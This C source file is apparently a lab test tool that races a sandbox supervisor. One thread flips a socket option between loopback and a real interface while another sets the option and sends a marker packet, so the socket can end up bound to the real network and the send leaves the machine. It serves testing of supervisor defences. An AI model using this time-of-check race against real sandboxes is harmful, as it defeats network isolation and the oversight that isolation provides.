/*
 * optflip: sets a socket option whose value another thread keeps
 * flipping between a harmless one (lo, index 1) and the lab's real
 * interface, then sends through the socket. A supervisor that checks the
 * value and lets the kernel read it again can be beaten between the two
 * reads: the socket is then pinned to the real interface (or joined to a
 * group on it), and a send "to loopback" leaves the machine.
 *
 *   optflip OP IFINDEX IFNAME DST-IP PORT MARKER TRIES
 *
 * OP: unicast-if4, unicast-if6, bindtodevice (DST-IP is IPv4 or IPv6 to
 * match), join4 (joins the group DST-IP by ip_mreqn; PORT unused).
 * Prints "ok=N refused=M" (setsockopt successes and failures) and
 * exits 0; 2 on bad usage.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static union {
	int index;
	char name[IFNAMSIZ];
	struct ip_mreqn mreqn;
} val __attribute__((aligned(64)));

static volatile int stop;
static int badIndex;
static const char *badName;
static const char *op;

/* flip writes the good and the bad value in turn, as fast as it can. */
static void *flip(void *arg)
{
	(void)arg;
	for (unsigned long i = 0; !stop; i++) {
		int bad = i & 1;
		if (!strcmp(op, "bindtodevice")) {
			memset(val.name, 0, sizeof val.name);
			strncpy(val.name, bad ? badName : "lo", IFNAMSIZ - 1);
		} else if (!strcmp(op, "join4")) {
			__atomic_store_n(&val.mreqn.imr_ifindex, bad ? badIndex : 1, __ATOMIC_RELAXED);
		} else { /* unicast-if4, unicast-if6: an index in network order */
			__atomic_store_n(&val.index, (int)htonl(bad ? badIndex : 1), __ATOMIC_RELAXED);
		}
	}
	return NULL;
}

static int setOption(int s)
{
	if (!strcmp(op, "bindtodevice"))
		return setsockopt(s, SOL_SOCKET, SO_BINDTODEVICE, val.name, IFNAMSIZ - 1);
	if (!strcmp(op, "join4"))
		return setsockopt(s, IPPROTO_IP, IP_ADD_MEMBERSHIP, &val.mreqn, sizeof val.mreqn);
	if (!strcmp(op, "unicast-if4"))
		return setsockopt(s, IPPROTO_IP, IP_UNICAST_IF, &val.index, sizeof val.index);
	return setsockopt(s, IPPROTO_IPV6, IPV6_UNICAST_IF, &val.index, sizeof val.index);
}

int main(int argc, char **argv)
{
	if (argc != 8) {
		fprintf(stderr, "usage: optflip OP IFINDEX IFNAME DST-IP PORT MARKER TRIES\n");
		return 2;
	}
	op = argv[1];
	badIndex = atoi(argv[2]);
	badName = argv[3];
	const char *marker = argv[6];
	int tries = atoi(argv[7]);

	struct sockaddr_storage dst;
	socklen_t dstlen;
	int family = AF_INET;
	memset(&dst, 0, sizeof dst);
	struct sockaddr_in *d4 = (struct sockaddr_in *)&dst;
	struct sockaddr_in6 *d6 = (struct sockaddr_in6 *)&dst;
	if (inet_pton(AF_INET, argv[4], &d4->sin_addr) == 1) {
		d4->sin_family = AF_INET;
		d4->sin_port = htons(atoi(argv[5]));
		dstlen = sizeof *d4;
	} else if (inet_pton(AF_INET6, argv[4], &d6->sin6_addr) == 1) {
		family = AF_INET6;
		d6->sin6_family = AF_INET6;
		d6->sin6_port = htons(atoi(argv[5]));
		dstlen = sizeof *d6;
	} else {
		fprintf(stderr, "optflip: bad address %s\n", argv[4]);
		return 2;
	}
	if (!strcmp(op, "join4"))
		val.mreqn.imr_multiaddr = d4->sin_addr;

	pthread_t t;
	if (pthread_create(&t, NULL, flip, NULL) != 0) {
		perror("optflip: pthread_create");
		return 1;
	}
	int ok = 0, refused = 0;
	for (int i = 0; i < tries; i++) {
		int s = socket(family, SOCK_DGRAM, 0);
		if (s < 0) {
			perror("optflip: socket");
			return 1;
		}
		if (setOption(s) == 0) {
			ok++;
			if (strcmp(op, "join4"))
				sendto(s, marker, strlen(marker), 0, (struct sockaddr *)&dst, dstlen);
		} else {
			refused++;
		}
		close(s);
	}
	stop = 1;
	pthread_join(t, NULL);
	printf("ok=%d refused=%d\n", ok, refused);
	return 0;
}
